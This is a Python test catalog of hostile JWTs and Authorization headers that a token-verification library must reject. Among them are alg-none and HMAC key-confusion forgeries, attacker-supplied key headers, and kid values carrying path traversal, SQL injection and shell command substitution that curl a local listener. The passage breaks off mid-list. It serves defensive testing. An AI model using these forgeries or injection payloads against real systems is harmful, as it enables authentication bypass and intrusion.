"""The attack catalog: every hostile token or header this suite throws at m2m_guard.

Each ``Attack`` has an id, the attack class it belongs to (``category``, the
rows of SECURITY.md's table), a builder that turns a ``Kit`` (the issuer's
keys, the attacker's key, the clock, a listener's URL) into the values of
the ``Authorization`` header, and the expected answer: HTTP status, RFC 6750
error code, the exception the verifier raises (the exact class) and a
fragment of its description. ``test_verifier.py`` runs the catalog through
``Verifier.verify_header`` and ``verify_header_async``; ``test_integrations.py``
through all five integration harnesses.

Base64url policy (RFC 7515 §2 and §7.1, enforced by ``m2m_guard._sansio.jws``): each
segment uses the URL-safe alphabet only, without padding, and must be
canonical (the unused low bits of the last character are zero), so one token
has exactly one spelling. Padding, ``+`` and ``/`` are invalid base64url, a
non-canonical last character is rejected, and characters outside RFC 6750's
``b64token`` syntax (``*``, ``!``, ``=`` before the end …) make the
``Authorization`` header itself malformed (400 ``invalid_request``).

Verifier profiles (``PROFILES``) all trust ``ISSUER`` and ``PROJECT_ID`` and
fetch their keys from the issuer's JWKS on 127.0.0.1, which holds the
issuer's RSA and EC keys and a symmetric (``oct``) key that must never be used.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from m2m_guard import (
    BadSignatureError,
    DisallowedAlgorithmError,
    ExpiredTokenError,
    InsufficientScopeError,
    InvalidAudienceError,
    InvalidClaimError,
    InvalidIssuerError,
    InvalidRequestError,
    M2MGuardError,
    MalformedTokenError,
    MissingTokenError,
    TokenNotYetValidError,
    TokenTooLargeError,
    UnknownKeyError,
    UnsupportedHeaderError,
)
from tests.support.keys import CLIENT_ID, ISSUER, PROJECT_ID, SigningKey, b64json, b64url
from tests.support.keys import stytch_claims as _claims

#: The symmetric key the issuer's JWKS (wrongly) publishes next to its public keys.
HMAC_KID = "jwk-test-oct"
HMAC_SECRET = b"a shared secret the attacker learned from the JWKS"

#: Verifier settings per profile (issuer, audience, keys and clock are added).
PROFILES: dict[str, dict[str, Any]] = {
    "stytch": {
        "client_id_claims": ("sub",),
        "scope_claims": ("scope",),
        "required_claims": ("aud", "iss", "exp", "iat", "nbf", "sub"),
    },
    "strict": {"strict_rfc9068": True},
    "ecdsa": {"algorithms": ("RS256", "ES256")},
    # A 1 MiB cap, so deeply nested JSON reaches the parser.
    "large": {"max_token_size": 1024 * 1024},
    # Machine-token markers as the Keycloak preset sets them.
    "keycloak": {
        "client_id_claims": ("client_id", "clientId", "azp"),
        "scope_claims": ("scope", "realm_access.roles"),
        "required_any_claims": ("client_id", "clientId"),
    },
    # Markers as the Entra and Auth0 presets set them.
    "app-only": {"forbidden_claims": "scp", "claim_values": {"gty": "client-credentials"}},
}


@dataclass(frozen=True)
class Kit:
    """What attacks are built from."""

    now: float
    key: SigningKey  # the issuer's RSA key, in its JWKS
    ec_key: SigningKey  # the issuer's ES256 key, in its JWKS
    attacker: SigningKey  # an RSA key nobody trusts
    attacker_cert: bytes  # a self-signed DER certificate for the attacker's key
    listener: str  # base URL of the attacker's server on 127.0.0.1
    jwks_url: str  # the issuer's real JWKS URL


Build = Callable[[Kit], Sequence[str]]
Make = Callable[[Kit], str]


@dataclass(frozen=True)
class Attack:
    """One hostile request and the answer m2m_guard must give it."""

    id: str
    category: str
    build: Build  # -> the Authorization header values (none, one or several)
    status: int
    error: str | None  # RFC 6750 error code; None: a challenge without one
    exception: type[M2MGuardError]
    fragment: str  # must appear in the error description
    profile: str = "stytch"
    required_scopes: tuple[str, ...] = ()
    reaches_keys: bool = False  # passes the cheap checks, so it costs one JWKS fetch
    unparsed: bool = False  # must be refused before any parsing work
    bug: str | None = None  # a known core bug: xfail(strict=True) until fixed

    def param(self) -> Any:
        """This attack as a pytest parameter (xfail while its bug is open)."""
        marks = [pytest.mark.xfail(strict=True, reason=self.bug)] if self.bug else []
        return pytest.param(self, id=self.id, marks=marks)


def bearer(make: Make) -> Build:
    """One ``Authorization: Bearer <token>`` header."""
    return lambda kit: (f"Bearer {make(kit)}",)


def invalid(
    id: str,
    category: str,
    make: Make,
    exception: type[M2MGuardError],
    fragment: str,
    **options: Any,
) -> Attack:
    """A token answered 401 ``invalid_token``."""
    return Attack(id, category, bearer(make), 401, "invalid_token", exception, fragment, **options)


# -- token builders -------------------------------------------------------------


def claims(kit: Kit, **overrides: Any) -> dict[str, Any]:
    """Stytch-shaped claims at the kit's time (``...`` removes a claim)."""
    return _claims(kit.now, **overrides)


def signed(headers: dict[str, Any] | None = None, *, signer: str = "key", **overrides: Any) -> Make:
    """A token signed by one of the kit's keys, with header and claim overrides."""

    def make(kit: Kit) -> str:
        key: SigningKey = getattr(kit, signer)
        return key.sign(claims(kit, **overrides), headers)

    return make


def sign_raw(key: SigningKey, header: str, payload: str) -> str:
    """Sign JSON texts as they are (duplicate members, odd literals …)."""
    signing_input = f"{b64url(header.encode())}.{b64url(payload.encode())}"
    signature = jwt.get_algorithm_by_name(key.alg).sign(signing_input.encode(), key.private)
    return f"{signing_input}.{b64url(signature)}"


def compact(data: dict[str, Any]) -> str:
    return json.dumps(data, separators=(",", ":"))


def header_of(kit: Kit, **members: Any) -> dict[str, Any]:
    header = {"alg": "RS256", "kid": kit.key.kid, "typ": "JWT", **members}
    return {k: v for k, v in header.items() if v is not ...}


def raw_payload(prefix: str = "", **overrides: Any) -> Make:
    """The issuer signs a payload whose JSON text starts with ``prefix`` members."""

    def make(kit: Kit) -> str:
        text = compact(claims(kit, **overrides))
        return sign_raw(kit.key, compact(header_of(kit)), "{" + prefix + text[1:])

    return make


def parts(kit: Kit) -> list[str]:
    """A valid token of the issuer, split into its three segments."""
    return kit.key.sign(claims(kit)).split(".")


def with_signature(kit: Kit, alg: str, kid: str, signature: bytes) -> str:
    """A token over valid claims with a chosen header alg/kid and raw signature."""
    header = header_of(kit, alg=alg, kid=kid)
    return f"{b64json(header)}.{b64json(claims(kit))}.{b64url(signature)}"


# -- alg none ----------------------------------------------------------------


def unsigned(alg: Any, keep_signature: bool) -> Make:
    def make(kit: Kit) -> str:
        header = header_of(kit, alg=alg)
        signature = parts(kit)[2] if keep_signature else ""
        return f"{b64json(header)}.{b64json(claims(kit))}.{signature}"

    return make


ALG_NONE = [
    attack
    for alg, name in [
        ("none", "none"),
        ("None", "None"),
        ("NONE", "NONE"),
        ("nOnE", "nOnE"),
        (" none", "space-none"),
        (..., "absent"),
    ]
    for attack in (
        invalid(
            f"alg-{name}-signature-stripped",
            "alg none",
            unsigned(alg, keep_signature=False),
            MalformedTokenError,
            "empty part",
        ),
        invalid(
            f"alg-{name}-original-signature",
            "alg none",
            unsigned(alg, keep_signature=True),
            DisallowedAlgorithmError,
            "algorithm is not allowed",
        ),
    )
]


# -- HS* keyed with the public key -------------------------------------------


def public_key_encodings(key: SigningKey) -> dict[str, bytes]:
    """The issuer's public key in every form an HMAC confusion attack tries."""
    public = key.public_key
    pem = serialization.Encoding.PEM
    der = serialization.Encoding.DER
    spki = serialization.PublicFormat.SubjectPublicKeyInfo
    pkcs1 = serialization.PublicFormat.PKCS1
    ssh = serialization.Encoding.OpenSSH
    return {
        "pem-spki": public.public_bytes(pem, spki),
        "pem-spki-no-newline": public.public_bytes(pem, spki).rstrip(b"\n"),
        "pem-pkcs1": public.public_bytes(pem, pkcs1),
        "der-spki": public.public_bytes(der, spki),
        "der-pkcs1": public.public_bytes(der, pkcs1),
        "jwk-json": json.dumps(key.jwk()).encode(),
        "openssh": public.public_bytes(ssh, serialization.PublicFormat.OpenSSH),
    }


_HMAC_DIGESTS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def hmac_signed(alg: str, secret: Callable[[Kit], bytes], kid: Callable[[Kit], str]) -> Make:
    def make(kit: Kit) -> str:
        header = header_of(kit, alg=alg, kid=kid(kit))
        signing_input = f"{b64json(header)}.{b64json(claims(kit))}"
        mac = hmac.new(secret(kit), signing_input.encode(), _HMAC_DIGESTS[alg]).digest()
        return f"{signing_input}.{b64url(mac)}"

    return make


def _encoded(encoding: str) -> Callable[[Kit], bytes]:
    return lambda kit: public_key_encodings(kit.key)[encoding]


HMAC_CONFUSION = [
    invalid(
        f"{alg.lower()}-keyed-with-{encoding}",
        "HMAC key confusion",
        hmac_signed(alg, _encoded(encoding), lambda kit: kit.key.kid),
        DisallowedAlgorithmError,
        "algorithm is not allowed",
    )
    for alg in _HMAC_DIGESTS
    for encoding in [
        "pem-spki",
        "pem-spki-no-newline",
        "pem-pkcs1",
        "der-spki",
        "der-pkcs1",
        "jwk-json",
        "openssh",
    ]
] + [
    invalid(
        "hs256-with-the-oct-key-the-jwks-publishes",
        "HMAC key confusion",
        hmac_signed("HS256", lambda kit: HMAC_SECRET, lambda kit: HMAC_KID),
        DisallowedAlgorithmError,
        "algorithm is not allowed",
    )
]


# -- headers that bring or name their own key --------------------------------


def self_keyed(members: Callable[[Kit], dict[str, Any]], *, issuer_kid: bool = False) -> Make:
    """Signed by the attacker, naming the attacker's key in the header."""

    def make(kit: Kit) -> str:
        kid = kit.key.kid if issuer_kid else kit.attacker.kid
        return kit.attacker.sign(claims(kit), {"kid": kid, **members(kit)})

    return make


def _x5c(kit: Kit) -> list[str]:
    return [base64.b64encode(kit.attacker_cert).decode()]


_OWN_KEY = "may not name its own key"
KEY_BEARING = [
    invalid(id, "key-bearing headers", make, UnsupportedHeaderError, _OWN_KEY)
    for id, make in [
        ("jku-to-the-attackers-jwks", self_keyed(lambda k: {"jku": f"{k.listener}/jwks"})),
        (
            "jku-with-the-issuers-kid",
            self_keyed(lambda k: {"jku": f"{k.listener}/jwks"}, issuer_kid=True),
        ),
        ("x5u-to-the-attackers-certificate", self_keyed(lambda k: {"x5u": f"{k.listener}/cert"})),
        ("jwk-embedding-the-attackers-key", self_keyed(lambda k: {"jwk": k.attacker.jwk()})),
        (
            "jwk-with-the-issuers-kid",
            self_keyed(lambda k: {"jwk": k.attacker.jwk()}, issuer_kid=True),
        ),
        ("x5c-with-the-attackers-certificate", self_keyed(lambda k: {"x5c": _x5c(k)})),
        (
            "jku-x5u-jwk-and-x5c-together",
            self_keyed(
                lambda k: {
                    "jku": f"{k.listener}/jwks",
                    "x5u": f"{k.listener}/cert",
                    "jwk": k.attacker.jwk(),
                    "x5c": _x5c(k),
                }
            ),
        ),
    ]
] + [
    invalid(
        "jku-to-the-issuers-own-jwks-signed-by-the-issuer",
        "key-bearing headers",
        lambda kit: kit.key.sign(claims(kit), {"jku": kit.jwks_url}),
        UnsupportedHeaderError,
        _OWN_KEY,
    )
]


# -- kid injection -------------------------------------------------------------


def issuer_signed_with_kid(kid: Callable[[Kit], Any]) -> Make:
    """Signed by the issuer's key, but naming a hostile kid."""
    return lambda kit: kit.key.sign(claims(kit), {"kid": kid(kit)})


KID_INJECTION = [
    invalid(
        f"kid-{id}",
        "kid injection",
        issuer_signed_with_kid(kid),
        UnknownKeyError,
        "unknown key",
        reaches_keys=True,
    )
    for id, kid in [
        ("path-traversal", lambda k: "../../../../../../etc/passwd"),
        ("path-traversal-to-the-real-kid", lambda k: f"../{k.key.kid}"),
        ("absolute-path", lambda k: "/dev/null"),
        ("url-encoded-traversal", lambda k: "..%2F..%2F..%2Fjwks"),
        ("sql-tautology", lambda k: "' OR '1'='1"),
        ("sql-stacked-query", lambda k: "x'; DROP TABLE signing_keys; --"),
        ("sql-comment-after-the-real-kid", lambda k: f"{k.key.kid}' --"),
        ("shell-command-substitution", lambda k: f"$(curl -s {k.listener}/kid-subst)"),
        ("shell-backticks", lambda k: f"`curl -s {k.listener}/kid-backticks`"),
        ("shell-pipe", lambda k: f"x | curl -s {k.listener}/kid-pipe"),
        ("nul-after-the-real-kid", lambda k: f"{k.key.kid}\x00"),
        ("real-kid-upper-cased", lambda k: k.key.kid.upper()),
        ("real-kid-trailing-space", lambda k: f"{k.key.kid} "),
        ("wildcard", lambda k: "*"),
        ("empty-string", lambda k: ""),
        ("two-kib-long", lambda k: "k" * 2048),
    ]
] + [
    invalid(
        f"kid-{id}",
        "kid injection",
        issuer_signed_with_kid(kid),
        UnsupportedHeaderError,
        "kid must be a string",
    )
    for id, kid in [
        ("nosql-operator-object", lambda k: {"$ne": None}),
        ("list-holding-the-real-kid", lambda k: [k.key.kid]),
        ("number", lambda k: 0),
    ]
]


# -- ECDSA ---------------------------------------------------------------------

# Order of the P-256 group (SEC 2 §2.4.2).
_P256_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def es256(signature: Callable[[Kit, bytes], bytes]) -> Make:
    """An ES256 token of the issuer's EC key whose signature is replaced."""

    def make(kit: Kit) -> str:
        header = header_of(kit, alg="ES256", kid=kit.ec_key.kid)
        signing_input = f"{b64json(header)}.{b64json(claims(kit))}"
        return f"{signing_input}.{b64url(signature(kit, signing_input.encode()))}"

    return make


def raw_es256(kit: Kit, message: bytes) -> bytes:
    """A genuine r||s signature (RFC 7518 §3.4)."""
    return jwt.get_algorithm_by_name("ES256").sign(message, kit.ec_key.private)


def s_zero_padded(signature: bytes) -> bytes:
    """The same r and s, s written with a leading zero byte (65 bytes)."""
    return signature[:32] + b"\0" + signature[32:]


ECDSA = [
    invalid(
        f"es256-{id}",
        "ECDSA signatures",
        es256(signature),
        BadSignatureError,
        "signature is invalid",
        profile="ecdsa",
        reaches_keys=True,
    )
    for id, signature in [
        ("all-zero-r-and-s", lambda kit, message: bytes(64)),
        ("r-and-s-equal-to-the-group-order", lambda kit, m: _P256_N.to_bytes(32, "big") * 2),
        ("zero-r-genuine-s", lambda kit, m: bytes(32) + raw_es256(kit, m)[32:]),
        (
            "der-encoded-genuine-signature",
            lambda kit, m: kit.ec_key.private.sign(m, ec.ECDSA(hashes.SHA256())),
        ),
        ("genuine-signature-one-byte-short", lambda kit, m: raw_es256(kit, m)[:-1]),
        ("genuine-signature-with-a-leading-zero", lambda kit, m: b"\0" + raw_es256(kit, m)),
        # The same signature spelled 65 bytes long (RFC 7518 §3.4 wants 64).
        ("genuine-signature-with-s-zero-padded", lambda kit, m: s_zero_padded(raw_es256(kit, m))),
    ]
] + [
    invalid(
        "es256-naming-the-rsa-keys-kid",
        "ECDSA signatures",
        lambda kit: kit.ec_key.sign(claims(kit), {"kid": kit.key.kid}),
        UnknownKeyError,
        "unknown key",
        profile="ecdsa",
        reaches_keys=True,
    ),
    invalid(
        "rs256-naming-the-ec-keys-kid",
        "ECDSA signatures",
        lambda kit: kit.key.sign(claims(kit), {"kid": kit.ec_key.kid}),
        UnknownKeyError,
        "unknown key",
        profile="ecdsa",
        reaches_keys=True,
    ),
]


# -- token shape ---------------------------------------------------------------


def _jwe(kit: Kit) -> str:
    header = b64json({"alg": "RSA-OAEP", "enc": "A256GCM", "kid": kit.key.kid})
    return ".".join([header, b64url(bytes(256)), b64url(bytes(12)), b64url(b"x" * 40), "AAAA"])


def _segments(pick: Callable[[list[str]], Sequence[str]]) -> Make:
    return lambda kit: ".".join(pick(parts(kit)))


_NOT_A_JWS = "not a signed JWT"
TOKEN_SHAPE = [
    Attack(
        "no-authorization-header",
        "token shape",
        lambda kit: (),
        401,
        None,
        MissingTokenError,
        "bearer token is required",
    ),
    Attack(
        "bearer-without-a-token",
        "token shape",
        lambda kit: ("Bearer",),
        400,
        "invalid_request",
        InvalidRequestError,
        "empty",
    ),
    invalid("the-string-null", "token shape", lambda kit: "null", MalformedTokenError, _NOT_A_JWS),
    invalid(
        "signature-stripped-two-segments",
        "token shape",
        _segments(lambda p: p[:2]),
        MalformedTokenError,
        _NOT_A_JWS,
    ),
    invalid(
        "signature-stripped-trailing-dot",
        "token shape",
        _segments(lambda p: [*p[:2], ""]),
        MalformedTokenError,
        "empty part",
    ),
    invalid(
        "one-segment", "token shape", _segments(lambda p: p[1:2]), MalformedTokenError, _NOT_A_JWS
    ),
    invalid(
        "four-segments",
        "token shape",
        _segments(lambda p: [*p, p[2]]),
        MalformedTokenError,
        _NOT_A_JWS,
    ),
    invalid("only-dots", "token shape", lambda kit: "..", MalformedTokenError, "empty part"),
    invalid("jwe-five-segments", "token shape", _jwe, MalformedTokenError, "(JWE)"),
    invalid(
        "jwe-enc-header-on-a-signed-token",
        "token shape",
        signed({"enc": "A256GCM"}),
        UnsupportedHeaderError,
        "(JWE)",
    ),
    invalid(
        "jwe-key-management-alg",
        "token shape",
        signed({"alg": "RSA-OAEP", "enc": "A256GCM"}),
        DisallowedAlgorithmError,
        "algorithm is not allowed",
    ),
    invalid(
        "nested-jwt-cty",
        "token shape",
        signed({"cty": "JWT"}),
        UnsupportedHeaderError,
        "Nested tokens",
    ),
    invalid(
        "payload-is-another-jwt",
        "token shape",
        lambda kit: sign_raw(kit.key, compact(header_of(kit)), kit.key.sign(claims(kit))),
        MalformedTokenError,
        "payload is not valid JSON",
    ),
    invalid(
        "payload-is-a-json-array",
        "token shape",
        lambda kit: sign_raw(kit.key, compact(header_of(kit)), "[]"),
        MalformedTokenError,
        "payload is not a JSON object",
    ),
    invalid(
        "header-is-a-json-string",
        "token shape",
        lambda kit: sign_raw(kit.key, '"RS256"', compact(claims(kit))),
        MalformedTokenError,
        "header is not a JSON object",
    ),
]


# -- non-canonical base64url ---------------------------------------------------

_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def non_canonical(segment: str) -> str:
    """The same bytes, spelled with non-zero unused bits in the last character."""
    assert len(segment) % 4 in (2, 3), "a 2048-bit RSA signature has 342 characters"
    index = _ALPHABET.index(segment[-1])
    assert index % 4 == 0  # canonical: at least two unused low bits are zero
    return segment[:-1] + _ALPHABET[index + 1]


def standard_alphabet(kit: Kit) -> str:
    """A valid token whose signature is re-spelled with ``+`` and ``/``."""
    for n in range(200):
        header, payload, signature = kit.key.sign(claims(kit, jti=f"jti-{n}")).split(".")
        if "-" in signature or "_" in signature:
            respelled = signature.replace("-", "+").replace("_", "/")
            return f"{header}.{payload}.{respelled}"
    raise AssertionError("no signature with - or _ in 200 tries")  # pragma: no cover


def _padded(segment: str) -> str:
    padding = "=" * (-len(segment) % 4)
    assert padding, "the segment needs padding"
    return segment + padding


BASE64 = [
    invalid(
        "padding-on-the-signature",
        "non-canonical base64url",
        _segments(lambda p: [p[0], p[1], _padded(p[2])]),
        MalformedTokenError,
        "not valid base64url",
    ),
    Attack(
        "padding-inside-the-token",
        "non-canonical base64url",
        bearer(_segments(lambda p: [p[0], p[1] + "==", p[2]])),
        400,
        "invalid_request",
        InvalidRequestError,
        "invalid characters",
    ),
    invalid(
        "standard-alphabet-plus-and-slash",
        "non-canonical base64url",
        standard_alphabet,
        MalformedTokenError,
        "not valid base64url",
    ),
    Attack(
        "junk-character-in-a-segment",
        "non-canonical base64url",
        bearer(_segments(lambda p: [p[0], p[1][:10] + "*" + p[1][10:], p[2]])),
        400,
        "invalid_request",
        InvalidRequestError,
        "invalid characters",
    ),
    invalid(
        "non-canonical-last-character-of-the-signature",
        "non-canonical base64url",
        _segments(lambda p: [p[0], p[1], non_canonical(p[2])]),
        MalformedTokenError,
        "not canonical base64url",
    ),
    invalid(
        "segment-length-4n-plus-1",
        "non-canonical base64url",
        _segments(lambda p: [p[0], p[1], p[2] + "A" * ((1 - len(p[2])) % 4)]),
        MalformedTokenError,
        "not valid base64url",
    ),
    invalid(
        "header-not-utf-8",
        "non-canonical base64url",
        lambda kit: ".".join(
            [b64url(b"\xff\xfe" + compact(header_of(kit)).encode()), *parts(kit)[1:]]
        ),
        MalformedTokenError,
        "header is not valid JSON",
    ),
    invalid(
        "header-with-a-byte-order-mark",
        "non-canonical base64url",
        lambda kit: sign_raw(kit.key, "\ufeff" + compact(header_of(kit)), compact(claims(kit))),
        MalformedTokenError,
        "header is not valid JSON",
    ),
]


# -- size ----------------------------------------------------------------------


def at_least(size: int) -> Make:
    """A token of the issuer, genuinely signed, padded to at least ``size`` characters."""

    def make(kit: Kit) -> str:
        pad = max(0, (size - 400) * 3 // 4)
        while True:
            token = kit.key.sign(claims(kit, pad="x" * pad))
            if len(token) >= size:
                return token
            pad += 1  # pragma: no cover - the estimate overshoots

    return make


OVERSIZED = [
    invalid(
        id,
        "oversized tokens",
        at_least(size),
        TokenTooLargeError,
        "too large",
        unparsed=True,
    )
    for id, size in [
        ("one-char-over-the-8-kib-cap", 8193),
        ("64-kib", 64 * 1024),
        ("1-mib", 1024 * 1024),
    ]
]


# -- deeply nested JSON ---------------------------------------------------------

_DEPTH = 100_000


def nested_payload(kit: Kit) -> str:
    text = compact(claims(kit))
    return sign_raw(
        kit.key, compact(header_of(kit)), '{"deep":' + "[" * _DEPTH + "]" * _DEPTH + "," + text[1:]
    )


def nested_header(kit: Kit) -> str:
    text = compact(header_of(kit))
    header = '{"deep":' + '{"a":' * _DEPTH + "{}" + "}" * _DEPTH + "," + text[1:]
    return sign_raw(kit.key, header, compact(claims(kit)))


NESTED = [
    invalid(
        "payload-nested-100000-deep",
        "deeply nested JSON",
        nested_payload,
        MalformedTokenError,
        "payload is not valid JSON",
        profile="large",
    ),
    invalid(
        "header-nested-100000-deep",
        "deeply nested JSON",
        nested_header,
        MalformedTokenError,
        "header is not valid JSON",
        profile="large",
    ),
]


# -- duplicate JSON members ------------------------------------------------------


def duplicate_header(kit: Kit) -> str:
    header = compact(header_of(kit))
    return sign_raw(kit.key, '{"alg":"HS256",' + header[1:], compact(claims(kit)))


DUPLICATES = [
    invalid(
        "duplicate-alg-in-the-header",
        "duplicate JSON members",
        duplicate_header,
        MalformedTokenError,
        "duplicate JSON members",
    ),
    *(
        invalid(
            f"duplicate-{id}",
            "duplicate JSON members",
            raw_payload(prefix),
            MalformedTokenError,
            "duplicate JSON members",
        )
        for id, prefix in [
            ("sub-first-names-a-victim", '"sub":"m2m-client-victim",'),
            ("scope-first-grants-admin", '"scope":"admin:*",'),
            ("exp-first-is-expired", '"exp":1,'),
            ("iss-first-is-foreign", '"iss":"https://evil.example",'),
            ("scope-spelled-with-a-unicode-escape", '"\\u0073cope":"admin:*",'),
        ]
    ),
]


# -- crit ----------------------------------------------------------------------

CRIT = [
    invalid(f"crit-{id}", "crit", signed(header), UnsupportedHeaderError, "critical")
    for id, header in [
        ("exp", {"crit": ["exp"]}),
        ("empty-list", {"crit": []}),
        ("b64-false-unencoded-payload", {"crit": ["b64"], "b64": False}),
        ("unknown-extension", {"crit": ["urn:example:ext"], "urn:example:ext": 1}),
        ("not-a-list", {"crit": "exp"}),
    ]
]


# -- typ -----------------------------------------------------------------------


def strict_token(typ: Any) -> Make:
    """A token with every RFC 9068 claim, so only typ can fail strict mode."""
    return lambda kit: kit.key.sign(claims(kit, client_id=CLIENT_ID), {"typ": typ})


TYP = [
    invalid(
        "strict-typ-absent",
        "typ confusion",
        strict_token(...),
        UnsupportedHeaderError,
        'type must be "at+jwt"',
        profile="strict",
    ),
    *(
        invalid(
            f"strict-typ-{id}",
            "typ confusion",
            strict_token(typ),
            UnsupportedHeaderError,
            "not an access token type",
            profile="strict",
        )
        for id, typ in [
            ("JWT", "JWT"),
            ("jwt", "jwt"),
            ("application-jwt", "application/jwt"),
            ("dpop+jwt", "dpop+jwt"),
            ("at+jwt-with-trailing-space", "at+jwt "),
            ("at+jwt-in-a-list", ["at+jwt"]),
            ("null", None),
        ]
    ),
    *(
        invalid(
            f"typ-{typ}",
            "typ confusion",
            signed({"typ": typ}),
            UnsupportedHeaderError,
            "not an access token type",
        )
        for typ in ["dpop+jwt", "logout+jwt", "secevent+jwt", "JOSE"]
    ),
]


# -- claim types ----------------------------------------------------------------

CLAIM_TYPES = [
    *(
        invalid(
            f"{name}-as-{id}",
            "claim types",
            signed(**{name: value}),
            InvalidClaimError,
            f"'{name}' claim must be a number",
            reaches_keys=True,
        )
        for name, id, value in [
            ("exp", "string", "1800003600"),
            ("exp", "true", True),
            ("exp", "false", False),
            ("exp", "null", None),
            ("exp", "1e20", 1e20),
            ("exp", "negative", -1),
            ("exp", "list", [1_800_003_600]),
            ("exp", "object", {"$date": 1_800_003_600}),
            ("iat", "string", "1800000000"),
            ("nbf", "true", True),
        ]
    ),
    invalid(
        "exp-as-a-401-digit-integer",
        "claim types",
        signed(exp=10**400),
        InvalidClaimError,
        "'exp' claim must be a number",
        reaches_keys=True,
    ),
    *(
        invalid(
            f"exp-as-{literal}-literal",
            "claim types",
            lambda kit, literal=literal: sign_raw(
                kit.key,
                compact(header_of(kit)),
                compact(claims(kit, exp=0)).replace('"exp":0', f'"exp":{literal}'),
            ),
            MalformedTokenError,
            "non-finite number",
        )
        for literal in ["NaN", "Infinity", "-Infinity"]
    ),
    invalid(
        "exp-with-5000-digits",
        "claim types",
        lambda kit: sign_raw(
            kit.key,
            compact(header_of(kit)),
            compact(claims(kit, exp=0)).replace('"exp":0', '"exp":' + "9" * 5000),
        ),
        MalformedTokenError,
        "payload is not valid JSON",
    ),
]


# -- time claims ----------------------------------------------------------------


def _at(**names: float) -> Make:
    """A token of the issuer with time claims at these offsets from now."""
    return lambda kit: kit.key.sign(
        claims(kit, **{name: kit.now + value for name, value in names.items()})
    )


TIME = [
    invalid(
        "expired-one-second-ago",
        "time claims",
        _at(exp=-1),
        ExpiredTokenError,
        "expired",
        reaches_keys=True,
    ),
    invalid(
        "expiring-this-very-second",
        "time claims",
        _at(exp=0),
        ExpiredTokenError,
        "expired",
        reaches_keys=True,
    ),
    invalid(
        "issued-and-expired-a-day-ago",
        "time claims",
        _at(iat=-86400, nbf=-86400, exp=-82800),
        ExpiredTokenError,
        "expired",
        reaches_keys=True,
    ),
    invalid(
        "not-before-in-a-minute",
        "time claims",
        _at(nbf=60),
        TokenNotYetValidError,
        "not valid yet",
        reaches_keys=True,
    ),
    invalid(
        "issued-in-a-minute",
        "time claims",
        _at(iat=60),
        TokenNotYetValidError,
        "issued in the future",
        reaches_keys=True,
    ),
]


# -- issuer -----------------------------------------------------------------------

ISSUER_TRICKS = [
    invalid(
        f"iss-{id}",
        "issuer tricks",
        signed(iss=iss),
        InvalidIssuerError,
        "unexpected issuer",
    )
    for id, iss in [
        ("with-a-suffix", f"{ISSUER}.evil.example"),
        ("with-a-trailing-slash", f"{ISSUER}/"),
        ("with-a-prefix", f"evil.example/{ISSUER}"),
        ("with-a-scheme", f"https://{ISSUER}"),
        ("truncated", ISSUER[:-1]),
        ("upper-cased", ISSUER.upper()),
        ("with-a-nul", f"{ISSUER}\x00"),
        ("with-a-newline", f"{ISSUER}\n"),
        ("with-a-leading-space", f" {ISSUER}"),
        ("cyrillic-o-homoglyph", ISSUER.replace(".com", ".c\u043em")),
        ("in-a-list", [ISSUER]),
        ("null", None),
    ]
] + [invalid("iss-absent", "issuer tricks", signed(iss=...), InvalidClaimError, "no 'iss' claim")]


# -- audience ---------------------------------------------------------------------

AUDIENCE = [
    invalid(
        f"aud-{id}",
        "audience mismatch",
        signed(aud=aud),
        InvalidAudienceError,
        fragment,
    )
    for id, aud, fragment in [
        ("another-audience", "someone-else", "not meant for this audience"),
        ("with-a-suffix", f"{PROJECT_ID}x", "not meant for this audience"),
        ("truncated", PROJECT_ID[:-1], "not meant for this audience"),
        ("upper-cased", PROJECT_ID.upper(), "not meant for this audience"),
        ("inside-a-longer-string", f"{PROJECT_ID} other", "not meant for this audience"),
        ("empty-list", [], "not meant for this audience"),
        ("list-with-null", [None], "missing or malformed"),
        ("ours-next-to-a-number", [PROJECT_ID, 1], "missing or malformed"),
        ("object", {"aud": PROJECT_ID}, "missing or malformed"),
        ("number", 42, "missing or malformed"),
    ]
] + [
    invalid("aud-absent", "audience mismatch", signed(aud=...), InvalidClaimError, "no 'aud' claim")
]


# -- scope claims -------------------------------------------------------------------

_LACKS = "lacks the scopes"
SCOPES = [
    *(
        invalid(
            f"scope-as-{id}",
            "scope claims",
            signed(scope=scope),
            InvalidClaimError,
            "must be a string or a list of strings",
            reaches_keys=True,
        )
        for id, scope in [
            ("number", 42),
            ("true", True),
            ("null", None),
            ("object", {"read:users": True}),
            ("list-with-a-number", ["read:users", 1]),
            ("nested-list", [["read:users"]]),
        ]
    ),
    *(
        Attack(
            f"scope-{id}",
            "scope claims",
            bearer(signed(**overrides)),
            403,
            "insufficient_scope",
            InsufficientScopeError,
            _LACKS,
            required_scopes=(required,),
            reaches_keys=True,
            bug=bug,
        )
        for id, overrides, required, bug in [
            ("bare-star-for-read-users", {"scope": "*"}, "read:users", None),
            ("star-colon-star-for-admin", {"scope": "*:*"}, "admin:users", None),
            ("read-star-for-write", {"scope": "read:*"}, "write:users", None),
            ("upper-cased", {"scope": "READ:USERS"}, "read:users", None),
            ("prefix-of-the-required", {"scope": "read:user"}, "read:users", None),
            ("comma-separated", {"scope": "read:users,admin:users"}, "admin:users", None),
            (
                "only-in-scp-which-stytch-ignores",
                {"scope": ..., "scp": "admin:users"},
                "admin:users",
                None,
            ),
            (
                "split-at-a-no-break-space",
                {"scope": "read:users\u00a0admin:users"},
                "admin:users",
                None,
            ),
            (
                "split-at-a-file-separator",
                {"scope": "read:users\x1cadmin:users"},
                "admin:users",
                None,
            ),
        ]
    ),
]


# -- signature tampering ------------------------------------------------------------


def tampered_claims(kit: Kit) -> str:
    header, _, signature = parts(kit)
    return f"{header}.{b64json(claims(kit, scope='admin:*'))}.{signature}"


def spliced_signature(kit: Kit) -> str:
    header, payload, _ = parts(kit)
    other = kit.key.sign(claims(kit, jti="another-token")).split(".")[2]
    return f"{header}.{payload}.{other}"


TAMPERING = [
    invalid(
        id,
        "signature tampering",
        make,
        BadSignatureError,
        "signature is invalid",
        reaches_keys=True,
    )
    for id, make in [
        ("claims-changed-after-signing", tampered_claims),
